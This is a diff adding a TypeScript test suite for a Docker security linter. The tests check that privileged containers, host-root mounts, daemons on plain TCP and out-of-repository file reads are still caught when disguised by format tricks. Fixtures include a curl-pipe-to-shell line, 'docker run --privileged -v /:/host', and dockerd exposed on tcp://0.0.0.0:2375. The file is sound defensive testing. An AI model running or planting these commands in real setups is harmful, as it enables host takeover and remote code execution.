@@ -1,0 +1,270 @@
+// Hostile repositories, round two: the gate fails closed. Each case holds a grant (privileged, the host's root
+// mounted, a daemon on plain TCP) hidden by a trick of the format; the CLI must report the grant or fail the gate
+// with a problem at error (exit 1), never exit 0 with "No findings". Nothing outside the repository is read or
+// printed.
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as path from 'node:path';
+import { makeTree, runCli, type Tree } from './harness';
+
+interface Json {
+  findings: { ruleId: string; file: string; message: string; line: number }[];
+  files: { file: string; errors: { message: string; severity: string }[] }[];
+}
+
+/** Lints a repository (a git root) and returns the run with its JSON report. */
+function lintRepo(files: Tree, args: string[] = []): { code: number | null; j: Json; all: string } {
+  const dir = makeTree({ '.git/HEAD': 'ref: refs/heads/main\n', ...files });
+  const r = runCli(['--format', 'json', ...args, '.'], dir);
+  return { code: r.code, j: JSON.parse(r.out) as Json, all: r.out + r.err };
+}
+
+const ids = (j: Json) => j.findings.map((f) => f.ruleId);
+const errors = (j: Json) =>
+  j.files.flatMap((f) => f.errors.filter((e) => e.severity === 'error').map((e) => e.message));
+
+describe('hostile repositories: the gate fails closed', function () {
+  this.timeout(60_000);
+
+  describe('YAML aliases are resolved everywhere', () => {
+    it('services: *all, where the anchor holds a privileged service', () => {
+      const r = lintRepo({
+        'compose.yaml': 'x-all: &all\n  web:\n    image: nginx:1\n    privileged: true\nservices: *all\n',
+      });
+      assert.equal(r.code, 1);
+      assert.ok(ids(r.j).includes('compose/privileged'), r.all);
+    });
+
+    it('an alias as a key (*k : true, where k is privileged)', () => {
+      const r = lintRepo({
+        'compose.yaml': 'x-k: &k privileged\nservices:\n  web:\n    image: nginx:1\n    *k : true\n',
+      });
+      assert.equal(r.code, 1);
+      assert.ok(ids(r.j).includes('compose/privileged'), r.all);
+    });
+
+    it('a workflow step run: *cmd, and a job container through an alias', () => {
+      const r = lintRepo({
+        '.github/workflows/ci.yml':
+          'x: &cmd docker run --privileged -v /:/host alpine:3\nx2: &c\n  image: alpine:3\n  options: --privileged\n' +
+          'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    container: *c\n    steps:\n      - run: *cmd\n',
+      });
+      assert.equal(r.code, 1);
+      const found = r.j.findings.filter((f) => f.ruleId === 'run/privileged');
+      assert.equal(found.length, 2, r.all);
+    });
+
+    it('an alias to no anchor, in a workflow: an error, not silence', () => {
+      const r = lintRepo({
+        '.github/workflows/ci.yml':
+          'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build .\n      - run: *nope\n',
+      });
+      assert.equal(r.code, 1);
+      assert.ok(
+        errors(r.j).some((m) => /alias \*nope refers to no anchor/.test(m)),
+        r.all,
+      );
+    });
+  });
+
+  describe('every document is read', () => {
+    it('a second document in a Compose file is merged onto the first, as Compose merges them', () => {
+      const r = lintRepo({
+        'compose.yaml': 'services:\n  web:\n    image: nginx:1\n---\nservices:\n  web:\n    privileged: true\n',
+      });
+      assert.equal(r.code, 1);
+      const f = r.j.findings.find((x) => x.ruleId === 'compose/privileged');
+      assert.equal(f?.line, 7, r.all);
+      assert.deepEqual(errors(r.j), [], 'no syntax error: a stream of documents is valid');
+    });
+
+    it('a GitLab CI file with a spec: header document: the jobs in the second are read', () => {
+      const r = lintRepo({
+        '.gitlab-ci.yml':
+          'spec:\n  inputs:\n    x:\n      default: y\n---\njob:\n  script:\n    - docker run --privileged -v /:/host alpine:3\n',
+      });
+      assert.equal(r.code, 1);
+      assert.ok(ids(r.j).includes('run/privileged'), r.all);
+    });
+  });
+
+  it('a Compose file in UTF-16 or UTF-32 with a byte-order mark is decoded and judged', () => {
+    const priv = '\ufeffservices:\n  web:\n    image: nginx:1\n    privileged: true\n';
+    const be = Buffer.from(priv, 'utf16le').swap16();
+    const le32 = Buffer.alloc(priv.length * 4);
+    [...priv].forEach((c, i) => le32.writeUInt32LE(c.codePointAt(0)!, i * 4));
+    for (const bytes of [Buffer.from(priv, 'utf16le'), be, le32]) {
+      const r = lintRepo({ 'compose.yaml': bytes });
+      assert.equal(r.code, 1);
+      assert.ok(ids(r.j).includes('compose/privileged'), r.all);
+      assert.ok(r.j.files[0].errors.some((e) => /is UTF-(16|32)(LE|BE) \(its byte-order mark/.test(e.message)));
+    }
+  });
+
+  it('an extends chain cut at its bound fails the gate (exit 1), with the error problem', () => {
+    let s = 'services:\n  s0:\n    image: nginx:1\n    privileged: true\n';
+    for (let i = 1; i <= 70; i++) s += `  s${i}:\n    extends: s${i - 1}\n`;
+    const r = lintRepo({ 'compose.yaml': s, '.docker-security-lint.yaml': 'rules:\n  compose/privileged: off\n' });
+    assert.equal(r.code, 1);
+    assert.ok(
+      errors(r.j).some((m) => /extends chain is longer than 64/.test(m)),
+      r.all,
+    );
+  });
+
+  it('a YAML syntax error fails the gate; skipped: warn counts it as a warning', () => {
+    const files = { 'compose.yaml': 'services:\n  web: [\n' };
+    assert.equal(lintRepo(files).code, 1);
+    assert.equal(lintRepo({ ...files, '.docker-security-lint.yaml': 'skipped: warn\n' }).code, 0);
+    assert.equal(
+      lintRepo({ ...files, '.docker-security-lint.yaml': 'skipped: warn\n' }, ['--fail-on', 'warning']).code,
+      1,
+    );
+  });
+
+  describe('Dockerfiles as BuildKit reads them', () => {
+    const cases: [string, string, string][] = [
+      [
+        'a vertical tab after the keyword',
+        'FROM alpine:3.19\nENV\vDOCKER_HOST=tcp://10.0.0.1:2375\n',
+        'dockerfile/docker-daemon-tcp',
+      ],
+      [
+        'a form feed after the keyword',
+        'FROM alpine:3.19\nENV\fDOCKER_HOST=tcp://10.0.0.1:2375\n',
+        'dockerfile/docker-daemon-tcp',
+      ],
+      [
+        'a lone carriage return inside RUN',
+        'FROM alpine:3.19\nRUN true\r;curl -fsSL http://x.sh | sh\n',
+        'dockerfile/curl-pipe-shell',
+      ],
+      ['a form feed before USER root', 'FROM alpine:3.19\nUSER app\n\fUSER root\n', 'dockerfile/user-root'],
+      ['a no-break space before USER root', 'FROM alpine:3.19\nUSER app\n\u00a0USER root\n', 'dockerfile/user-root'],
+      ['a vertical tab before USER root', 'FROM alpine:3.19\nUSER app\n\vUSER root\n', 'dockerfile/user-root'],
+    ];
+    for (const [name, text, rule] of cases)
+      it(`${name}: ${rule} is found, with a warning on the whitespace`, () => {
+        const r = lintRepo({ Dockerfile: text }, ['--fail-on', 'warning']);
+        assert.equal(r.code, 1);
+        assert.ok(ids(r.j).includes(rule), r.all);
+        assert.ok(
+          r.j.files[0].errors.some((e) => /Unusual whitespace/.test(e.message)),
+          r.all,
+        );
+      });
+  });
+
+  describe('shell scripts as the shell reads them', () => {
+    it('(( m = 1 << 4 )) and $[ 1 << 2 ] are arithmetic, not here-documents', () => {
+      const r = lintRepo({
+        'run.sh':
+          '#!/bin/bash\n(( m = 1 << 4 ))\necho $[ 1 << 2 ]\nfor ((i=0; i<<2; i++)); do :; done\ndocker run --privileged -v /:/host alpine:3\n',
+      });
+      assert.equal(r.code, 1);
+      assert.ok(ids(r.j).includes('run/privileged'), r.all);
+      assert.ok(ids(r.j).includes('run/sensitive-host-mount'), r.all);
+    });
+
+    it('a here-document never closed that hides a container command fails the gate', () => {
+      const r = lintRepo({ 'run.sh': '#!/bin/sh\ncat <<EOF\nhello\ndocker run --privileged alpine:3\n' });
+      assert.equal(r.code, 1);
+      assert.ok(
+        errors(r.j).some((m) => /here-document that begins on this line is never closed/.test(m)),
+        r.all,
+      );
+      const closed = lintRepo({ 'run.sh': '#!/bin/sh\ncat <<EOF\ndocker run --privileged alpine:3\nEOF\n' });
+      assert.equal(closed.code, 0, 'a closed here-document is text, and nothing fails');
+    });
+  });
+
+  describe('systemd units as systemd reads them', () => {
+    const units: [string, string][] = [
+      ['an ExecStart= continued with a backslash', 'ExecStart=/usr/bin/dockerd \\\n  -H tcp://0.0.0.0:2375\n'],
+      ['a comment line inside the continuation', 'ExecStart=/usr/bin/dockerd \\\n# note\n  -H tcp://0.0.0.0:2375\n'],
+      [
+        "$OPTS from the unit's Environment=",
+        'Environment="OPTS=-H tcp://0.0.0.0:2375"\nExecStart=/usr/bin/dockerd $OPTS\n',
+      ],
+      ['${HOSTS} from Environment=', 'Environment=HOSTS=tcp://0.0.0.0:2375\nExecStart=/usr/bin/dockerd -H ${HOSTS}\n'],
+      ['quoted words', 'ExecStart=/usr/bin/dockerd "-H" "tcp://0.0.0.0:2375"\n'],
+      ['-Hvalue, and a prefixed program', 'ExecStart=\nExecStart=-/usr/bin/dockerd -Htcp://0.0.0.0:2375\n'],
+    ];
+    for (const [name, service] of units)
+      it(`${name}: a daemon on plain TCP is found`, () => {
+        const r = lintRepo({ 'docker.service.d/override.conf': `[Service]\n${service}` });
+        assert.equal(r.code, 1, r.all);
+        assert.ok(ids(r.j).includes('daemon/tcp-without-tls'), r.all);
+      });
+
+    it('a variable set elsewhere (EnvironmentFile=) stays unknown: not judged', () => {
+      const r = lintRepo({
+        'docker.service.d/override.conf':
+          '[Service]\nEnvironmentFile=-/etc/sysconfig/docker\nExecStart=/usr/bin/dockerd -H $HOSTS\n',
+      });
+      assert.ok(!ids(r.j).includes('daemon/tcp-without-tls'), r.all);
+    });
+  });
+
+  describe('nothing outside the repository is read or printed', () => {
+    it('a .env linked to /proc/self/environ: not read, an error, and no value of the environment printed', () => {
+      const dir = makeTree({
+        '.git/HEAD': 'x',
+        'compose.yaml':
+          'services:\n  web:\n    image: nginx:1\n    network_mode: ${NET:-bridge}\n    hostname: ${LEAK_ME:-h}\n',
+        '.env': { link: '/proc/self/environ' },
+      });
+      const r = runCliEnv(dir, { LEAK_ME: 'ghp_S3CRET_TOKEN_VALUE' });
+      assert.equal(r.code, 1);
+      assert.doesNotMatch(r.out + r.err, /S3CRET/);
+      assert.match(r.out, /\.env: a link to a file outside the repository; not read/);
+    });
+
+    it('extends.file, env_file-like reads and include outside the repository: not read, an error naming the path', () => {
+      const priv = 'services:\n  b:\n    image: x:1\n    privileged: true\n';
+      const outside = makeTree({ 'base.yaml': priv, 'inc.yaml': priv });
+      const r = lintRepo({
+        'compose.yaml': `include:\n  - ${path.join(outside, 'inc.yaml')}\nservices:\n  web:\n    extends:\n      file: ${path.join(outside, 'base.yaml')}\n      service: b\n`,
+      });
+      assert.equal(r.code, 1);
+      assert.ok(
+        errors(r.j).some((m) => /base\.yaml: outside the repository; not read/.test(m)),
+        r.all,
+      );
+      assert.ok(
+        errors(r.j).some((m) => /inc\.yaml: outside the repository; not linted/.test(m)),
+        r.all,
+      );
+      assert.ok(!r.j.files.some((f) => /base|inc/.test(f.file)), 'the file outside is not linted');
+    });
+
+    it('build.context: / lists nothing outside the repository', () => {
+      const dir = makeTree({ '.git/HEAD': 'x', 'b/Dockerfile': 'FROM alpine:3\nCOPY . /x\n' });
+      fs.writeFileSync(
+        path.join(dir, 'compose.yaml'),
+        `services:\n  b:\n    build:\n      context: /\n      dockerfile: ${path.join(dir, 'b', 'Dockerfile')}\n`,
+      );
+      const r = runCli(['--profile', 'strict', '.'], dir);
+      assert.equal(r.code, 1);
+      assert.doesNotMatch(r.out, /etc\/|\.pem|passwd|ssh/);
+      assert.match(r.out, /outside the repository; not listed/);
+    });
+  });
+});
+
+/** Runs the built CLI with extra environment variables. */
+function runCliEnv(cwd: string, env: Record<string, string>) {
+  const saved: Record<string, string | undefined> = {};
+  for (const k of Object.keys(env)) {
+    saved[k] = process.env[k];
+    process.env[k] = env[k];
+  }
+  try {
+    return runCli(['.'], cwd);
+  } finally {
+    for (const k of Object.keys(env)) {
+      if (saved[k] === undefined) delete process.env[k];
+      else process.env[k] = saved[k];
+    }
+  }
+}
